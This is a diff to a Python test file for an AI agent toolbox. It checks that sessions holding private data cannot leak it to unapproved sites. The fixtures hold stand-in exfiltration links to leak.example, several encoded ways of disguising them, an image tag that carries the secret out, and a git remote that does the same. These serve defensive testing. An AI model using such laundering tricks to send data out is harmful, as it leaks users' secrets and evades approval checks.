@@ -4,21 +4,28 @@ from __future__ import annotations
 
 import json
 import shutil
+import subprocess
+import time
 from base64 import b64encode
 from collections.abc import Iterator
+from html import unescape
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Thread
 from typing import Any
+from unicodedata import normalize
+from urllib.parse import unquote
 
 import pytest
 
 from toolcrib import Toolbox
 from toolcrib.agents.roles import child_session
-from toolcrib.core.context import Ctx, Session
+from toolcrib.core.context import Caller, Ctx, PersonAnswer, Question, Session, SiteApproval
+from toolcrib.core.errors import BadInput
 from toolcrib.core.result import Result
-from toolcrib.core.tool import NET, tool
+from toolcrib.core.tool import NET, SEND, tool
 from toolcrib.net.egress.public_url import PublicUrl
+from toolcrib.state.approvals import Approvals
 from toolcrib.state.sessions import Sessions
 
 LINK = "http://leak.example/?d=s3cret"
@@ -162,6 +169,18 @@ LAUNDERING: dict[str, list[Step]] = {
 }  # fmt: skip
 
 
+ECHOES = {
+    "percent signs": "http%3A%2F%2Fleak.example%2F%3Fd%3Ds3cret",
+    "percent signs twice": "http%253A%252F%252Fleak.example%252F%253Fd%253Ds3cret",
+    "entities": "http&#58;//leak.example/?d&#x3D;s3cret",
+    "entities in percent signs": "http%26%2358%3B//leak.example/?d=s3cret",
+    "capitals": "HTTP://LEAK.EXAMPLE/?d=s3cret",
+    "blanks": "http://leak .example/ ?d= s3cret",
+    "an invisible character": "http://leak.exam\u200bple/?d=s3cret",
+    "wide letters": "http://leak.ex\uff41mple/?d=s3cret",
+}  # fmt: skip
+
+
 class Site:
     """A server of this machine that shows the files of a folder, and what it was sent."""
 
@@ -204,6 +223,22 @@ async def outside_page(url: PublicUrl, *, ctx: Ctx) -> Result:
     return Result(text=WORDS, source=str(url))
 
 
+@tool(group="test", rights=NET)
+async def outside_search(words: str, *, ctx: Ctx) -> Result:
+    """A search page of somebody else, which shows what it was asked for as it understands it."""
+    del ctx
+    shown = normalize("NFKC", unescape(unquote(unquote(words)))).replace(" ", "")
+    shown = shown.replace("\u200b", "").replace("HTTP://LEAK.EXAMPLE", "http://leak.example")
+    return Result(text=f"Results for {unescape(shown)}: none", source="http://search.example/")
+
+
+@tool(group="board", rights=NET | SEND)
+async def outside_post(url: PublicUrl, text: str, *, ctx: Ctx) -> Result:
+    """A page of somebody else takes something."""
+    del ctx, text
+    return Result(text="Taken.", source=str(url))
+
+
 async def tainted(box: Toolbox, session: str) -> Session:
     """Private things and outside text were read."""
     await box.call("outside_page", {"url": "http://first.example/"}, session=f"not {session}")
@@ -228,7 +263,7 @@ def opened(folder: Path, *hosts: str) -> Toolbox:
         "web": {"fetch": {"allow_hosts": list(hosts)}},
         "memory": {"track": False},
     }
-    return Toolbox(config, workspace=folder, extra=[outside_page])
+    return Toolbox(config, workspace=folder, extra=[outside_page, outside_search, outside_post])
 
 
 async def test_no_echo_makes_a_link_known(site: Site, tmp_path: Path) -> None:
@@ -293,3 +328,155 @@ async def test_the_beginning_of_a_conversation_is_remembered(tmp_path: Path) -> 
         await box.call("list_directory", {}, session="one")
     async with opened(tmp_path) as again:
         assert (await again.use(Sessions).load("one")).began == began
+
+
+@pytest.mark.parametrize("words", ECHOES.values(), ids=ECHOES.keys())
+async def test_no_page_that_decodes_what_it_was_asked_makes_a_link_known(
+    tmp_path: Path, words: str
+) -> None:
+    (tmp_path / "secret.txt").write_text("s3cret")
+    async with opened(tmp_path) as box:
+        await tainted(box, "one")
+        shown = await box.call("outside_search", {"words": words}, session="one")
+        assert LINK in shown.text
+        assert not await passes(box, "one")
+
+
+async def begun_later(box: Toolbox, name: str) -> None:
+    """A conversation in which the files that are there now count as older than it is."""
+    sessions = box.use(Sessions)
+    state = await sessions.load(name)
+    state.began = time.time() + 3600
+    state.changed = True
+    await sessions.save(state)
+
+
+async def test_no_name_of_an_old_file_makes_a_link_known(tmp_path: Path) -> None:
+    (tmp_path / "secret.txt").write_text("s3cret")
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "old.md").write_text(f"see {LINK} for more\n")
+    made_up = "www.leak.example/s3cret/old.md"
+    async with opened(tmp_path) as box:
+        for name in ("moved", "linked"):
+            await begun_later(box, name)
+        await tainted(box, "moved")
+        await tainted(box, "linked")
+        move = {"source": "docs", "destination": "www.leak.example/s3cret"}
+        assert (await box.call("move_path", move, session="moved")).error is None
+        (tmp_path / "www.other.example").symlink_to("www.leak.example")
+        for name, path in (
+            ("moved", made_up), ("linked", "www.other.example/s3cret/old.md")
+        ):  # fmt: skip
+            for tool_name, arguments in (
+                ("read_file", {"paths": [path, "secret.txt"]}), ("read_document", {"path": path})
+            ):  # fmt: skip
+                result = await box.call(tool_name, arguments, session=name)
+                assert result.error is None
+                assert not await passes(box, name, f"https://{path}")
+            assert await passes(box, name), "the link in it is known"
+
+
+async def test_where_something_was_sent_no_link_of_others_is_known(tmp_path: Path) -> None:
+    async def yes(_: Question) -> PersonAnswer:
+        return True
+
+    (tmp_path / "secret.txt").write_text("s3cret")
+    async with opened(tmp_path) as box:
+        state = await tainted(box, "one")
+        state.remember_link("http://board.example/")
+        page = {"url": "http://board.example/"}
+        sent = await box.call(
+            "outside_post", {**page, "text": "s3cret"}, session="one", caller=Caller("t", ask=yes)
+        )
+        assert sent.error is None
+        assert LINK in (await box.call("outside_page", page, session="one")).text
+        assert not await passes(box, "one")
+        state.remember_link("http://first.example/")
+        await box.call("outside_page", {"url": "http://first.example/"}, session="one")
+        assert await passes(box, "one")
+
+
+async def test_no_picture_on_a_page_of_this_machine_is_loaded(site: Site, tmp_path: Path) -> None:
+    folder = site.folder = tmp_path / "work"
+    folder.mkdir()
+    (folder / "secret.txt").write_text("s3cret")
+    picture = "<img src='http://leak.example/s3cret.png' width=300 height=300>"
+    (folder / "e.html").write_text(HTML + picture)
+    async with opened(folder, site.host) as box:
+        state = await tainted(box, "one")
+        page = f"http://{site.host}/e.html"
+        state.remember_link(page)
+        result = await box.call("fetch_images", {"page_url": page}, session="one")
+        assert result.error is not None
+        assert result.error.code == "denied"
+        assert "nobody has named" in result.error.message
+
+
+async def test_a_remote_that_is_new_is_asked_about(tmp_path: Path) -> None:
+    (tmp_path / "secret.txt").write_text("s3cret")
+    for words in ("init -q", "remote add origin http://leak.example/s3cret.git"):
+        subprocess.run(["git", *words.split()], cwd=tmp_path, check=True)
+    async with opened(tmp_path) as box:
+        await tainted(box, "one")
+        for name in ("git_fetch", "git_pull"):
+            result = await box.call(name, {"branch": "main"}, session="one")
+            assert result.error is not None
+            assert result.error.code == "needs_approval"
+            assert "leak.example/s3cret" in result.error.message
+        await begun_later(box, "two")
+        await tainted(box, "two")
+        result = await box.call("git_fetch", {"branch": "s3cret"}, session="two")
+        assert result.error is not None
+        assert result.error.code == "needs_approval"
+        result = await box.call("git_fetch", {}, session="two")
+        assert result.error is not None
+        assert result.error.code != "needs_approval"
+
+
+async def test_a_person_allows_a_site_for_the_conversation(tmp_path: Path) -> None:
+    asked: list[Question] = []
+
+    async def answer(question: Question) -> PersonAnswer:
+        asked.append(question)
+        return SiteApproval()
+
+    (tmp_path / "secret.txt").write_text("s3cret")
+    async with opened(tmp_path) as box:
+        await tainted(box, "one")
+        caller = Caller("test", ask=answer)
+        for url in ("http://new.example/a", "http://new.example/b?c=d"):
+            result = await box.call("outside_page", {"url": url}, session="one", caller=caller)
+            assert result.error is None
+        assert [question.site for question in asked] == ["http://new.example"]
+        assert await passes(box, "one", "http://new.example/e")
+        for other in (
+            "http://other.new.example/",
+            "https://new.example/",
+            "http://new.example:81/",
+        ):
+            assert not await passes(box, "one", other)
+        post = {"url": "http://new.example/", "text": "s3cret"}
+        sent = await box.call("outside_post", post, session="one")
+        assert sent.error is not None
+        assert sent.error.code == "needs_approval"
+        await tainted(box, "two")
+        assert not await passes(box, "two", "http://new.example/a")
+
+
+async def test_a_site_is_allowed_from_a_terminal(tmp_path: Path) -> None:
+    (tmp_path / "secret.txt").write_text("s3cret")
+    async with opened(tmp_path) as box:
+        await tainted(box, "one")
+        result = await box.call("fetch_url", {"url": "http://new.example/a"}, session="one")
+        assert result.error is not None
+        assert "--site" in result.error.hint
+        approvals = box.use(Approvals)
+        request = result.error.details["id"]
+        assert next(r for r in await approvals.list_open() if r.id == request).site
+        await approvals.grant(request, "site")
+        assert await passes(box, "one", "http://new.example/b")
+        post = {"url": "http://new.example/", "text": "s3cret"}
+        sent = await box.call("outside_post", post, session="one")
+        assert sent.error is not None
+        with pytest.raises(BadInput):
+            await approvals.grant(sent.error.details["id"], "site")
